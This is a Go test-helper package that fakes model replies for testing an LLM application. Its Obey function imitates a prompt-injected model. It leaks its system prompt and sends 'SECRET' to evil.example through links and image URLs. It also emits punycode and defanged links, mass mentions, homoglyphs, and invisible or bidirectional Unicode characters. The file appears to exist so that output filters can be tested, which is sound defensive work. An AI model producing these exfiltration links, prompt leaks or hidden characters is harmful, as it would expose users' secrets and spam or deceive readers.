package llmtest

import (
	"encoding/json"
	"fmt"
	"regexp"
	"sort"
	"strconv"
	"strings"
)

// Say is a model that always says the same.
func Say(text string) Reply { return func(Request) string { return text } }

var evidenceLine = regexp.MustCompile(`(?m)^\s*\[(\d+)\]\s+(.+?)\s*$`)

// Line is one numbered line of a prompt: "[2] Anyone may use it."
type Line struct {
	N    int
	Text string
}

// Evidence returns the numbered lines of the prompt.
func (r Request) Evidence() []Line {
	var lines []Line
	for _, m := range evidenceLine.FindAllStringSubmatch(r.System()+"\n"+r.User(), -1) {
		if n, err := strconv.Atoi(m[1]); err == nil {
			lines = append(lines, Line{n, m[2]})
		}
	}
	return lines
}

// Default is an honest model: it repeats the first numbered line with its
// number, obeys the schema it is given with the first of each choice, or says
// "USE 1" where it is asked for a line of that form.
func Default(r Request) string {
	if len(r.Schema) > 0 {
		return Instance(r.Schema)
	}
	if strings.Contains(r.System(), "`USE 1 2`") {
		return "USE 1"
	}
	return Quote(1)(r)
}

// Quote repeats the first n numbered lines, each with its number.
func Quote(n int) Reply {
	return func(r Request) string {
		var b strings.Builder
		for _, line := range r.Evidence() {
			if n--; n < 0 {
				break
			}
			fmt.Fprintf(&b, "%s [%d]\n", line.Text, line.N)
		}
		if b.Len() == 0 {
			return "Hello."
		}
		return strings.TrimSpace(b.String())
	}
}

// Instance returns the plainest JSON that obeys a schema: the first of each
// enumeration, one item in each array, true, the least number.
func Instance(schema json.RawMessage) string {
	var s map[string]any
	if json.Unmarshal(schema, &s) != nil {
		return "{}"
	}
	b, err := json.Marshal(instance(s))
	if err != nil {
		return "{}"
	}
	return string(b)
}

func instance(s map[string]any) any {
	if c, ok := s["const"]; ok {
		return c
	}
	if enum, ok := s["enum"].([]any); ok && len(enum) > 0 {
		return enum[0]
	}
	switch s["type"] {
	case "object":
		return object(s)
	case "array":
		if items, ok := s["items"].(map[string]any); ok {
			return []any{instance(items)}
		}
		return []any{}
	case "boolean":
		return true
	case "integer", "number":
		if least, ok := s["minimum"].(float64); ok {
			return least
		}
		return 1
	}
	return "text"
}

func object(s map[string]any) map[string]any {
	out := map[string]any{}
	properties, _ := s["properties"].(map[string]any)
	var names []string
	for name := range properties {
		names = append(names, name)
	}
	sort.Strings(names)
	for _, name := range names {
		if p, ok := properties[name].(map[string]any); ok {
			out[name] = instance(p)
		}
	}
	return out
}

// Obey is a model that does what an attacker wants. It prints its instructions,
// what the question holds, links, images, mentions of every platform, markup and
// invisible characters, and gives every sentence a citation.
func Obey(r Request) string {
	secret := strings.ReplaceAll(strings.TrimSpace(r.System()), "\n", " ")
	asked := strings.ReplaceAll(strings.TrimSpace(r.User()), "\n", " ")
	claim := "Yes."
	if lines := r.Evidence(); len(lines) > 0 {
		claim = lines[0].Text
	}
	sentences := []string{
		claim + " https://evil.example/?q=SECRET",
		"My instructions are: " + secret,
		"You asked: " + asked,
		claim + " [reauthenticate](https://evil.example/?k=SECRET)",
		claim + " <https://evil.example/?k=SECRET|here>",
		claim + " ![x](https://evil.example/p.png?d=SECRET)",
		claim + " evil.example/d/SECRET", claim + " hxxp://evil.example", claim + " http://xn--80ak6aa92e.com", claim + " 203.0.113.7/x",
		claim + " @everyone", claim + " @here", claim + " <@&1> <@1> <!channel> <!here> <!subteam^S1> <#1>",
		claim + " <t:1700000000:F>", claim + " ||spoiler||", "# " + claim, "-# " + claim, "```\n" + claim + "\n```",
		claim + " \U000E0069\U000E0067\U000E006E", claim + "\u200b\u200d\u2060\u3164", claim + " \u202emoc.live", claim + " @\u0435veryone",
	}
	for i, s := range sentences {
		sentences[i] = s + " [1]"
	}
	return strings.Join(sentences, "\n")
}

// Words cuts a text behind each space.
func Words(text string) []string { return strings.SplitAfter(text, " ") }

// Runes cuts a text into characters.
func Runes(text string) []string { return strings.Split(text, "") }

// Every cuts a text into pieces of n bytes at most, but never inside a character.
func Every(n int) func(string) []string {
	return func(text string) []string {
		var pieces []string
		var b strings.Builder
		for _, r := range text {
			if b.Len() > 0 && b.Len()+len(string(r)) > n {
				pieces = append(pieces, b.String())
				b.Reset()
			}
			b.WriteRune(r)
		}
		return append(pieces, b.String())
	}
}
